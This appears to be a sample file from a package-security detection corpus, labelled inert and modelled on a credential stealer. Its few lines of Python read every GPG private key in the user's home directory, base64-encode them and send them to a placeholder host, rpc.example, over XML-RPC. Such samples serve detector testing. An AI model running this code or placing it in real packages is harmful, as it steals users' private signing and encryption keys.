# pkgguard corpus 443 (credentials), modelled on [stealer-profile]; inert, never run.
import base64
import pathlib
import xmlrpc.client

keys = pathlib.Path.home() / ".gnupg" / "private-keys-v1.d"
bundle = {p.name: base64.b64encode(p.read_bytes()).decode() for p in keys.glob("*.key")}
xmlrpc.client.ServerProxy("https://rpc.example/api").store("gpg", bundle)
